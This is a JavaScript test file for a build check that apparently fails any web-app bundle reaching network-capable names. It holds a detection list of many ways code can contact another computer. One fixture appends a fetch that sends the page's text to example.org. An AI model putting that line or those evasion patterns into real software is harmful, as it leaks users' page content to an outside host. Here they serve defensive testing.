// What the program can reach is told by its names, and a build that reaches further fails.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import * as places from "../lib/places.mjs";
import { strangers } from "../lib/reach.mjs";

const built = (ending) => readFileSync(join(places.dist, readdirSync(places.dist).find((name) => name.startsWith("app-") && name.endsWith(ending))));
const [script, wasm] = [built(".js").toString(), built(".wasm")];
/// WebAssembly that imports nothing and gives nothing.
const EMPTY = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0);

test("the program that was built names nothing that is not on the list", () => {
  assert.deepEqual(strangers(script, wasm), []);
});

test("whatever calls another computer is a stranger, however it is written", () => {
  for (const [more, named] of [
    ["fetch('x')", ["fetch"]],
    ["window.fetch('x')", ["window.fetch"]],
    ["let a = document.body; a.ownerDocument.defaultView['fetch']('x')", ["defaultView", "fetch", "ownerDocument"]],
    ["let { fetch: a } = globalThis", ["fetch"]],
    ["let a = (b = fetch) => b", ["fetch"]],
    ["(a => a.sendBeacon('x'))(navigator)", ["sendBeacon"]],
    ["new WebSocket('x')", ["WebSocket"]],
    ["new RTCPeerConnection", ["RTCPeerConnection"]],
    ["open('x')", ["open"]],
    ["window.open('x')", ["window.open"]],
    ["location = 'x'", ["location"]],
    ["document.location.href = 'x'", ["document.location"]],
    ["import('x')", ["ImportExpression"]],
    ["import 'x'", ["ImportDeclaration"]],
    ["import.meta.url", ["MetaProperty", "import"]],
    ["eval('x')", ["eval"]],
    ["function fetch() {}", ["own:fetch"]],
    ["indexedDB.open('x')", []],
  ]) {
    assert.deepEqual(strangers(more, EMPTY).filter((name) => name !== "window"), named, more);
  }
});

test("an import that the script does not give is a stranger", () => {
  // (module (import "a" "q" (func)))
  const asking = Uint8Array.of(...EMPTY, 1, 4, 1, 0x60, 0, 0, 2, 7, 1, 1, 97, 1, 113, 0, 0);
  assert.deepEqual(strangers("export default { a: {} }", asking), ["import:q"]);
  assert.deepEqual(strangers("export default { a: { q: 1 } }", asking), []);
});

test("a build that reaches further fails, and says by which name", () => {
  const folder = mkdtempSync(join(tmpdir(), "faircopy-reach-"));
  try {
    writeFileSync(join(folder, "faircopy-app-0.js"), `${script};fetch("https://example.org/" + document.body.innerText)`);
    writeFileSync(join(folder, "faircopy-app-0_bg.wasm"), wasm);
    const { status, stderr } = spawnSync("node", [fileURLToPath(new URL("../seal.mjs", import.meta.url)), folder], { encoding: "utf8" });
    assert.equal(status, 1);
    assert.match(stderr, /names what it did not name before: fetch\.\n.*e2e\/reach\.txt/);
  } finally {
    rmSync(folder, { recursive: true });
  }
});
